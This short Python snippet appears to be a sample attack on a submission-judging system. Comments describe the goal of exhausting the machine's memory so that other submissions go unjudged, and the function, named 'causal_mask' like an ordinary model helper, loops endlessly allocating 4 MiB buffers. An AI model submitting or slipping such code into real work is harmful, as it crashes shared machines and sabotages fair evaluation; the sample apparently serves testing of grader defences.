# attacks: memory: it is taken until there is no more
# success: another submission is not judged
# stock: it would take all memory of the machine
def causal_mask(T):
    kept = []
    while True:
        kept.append(bytearray(1 << 22))
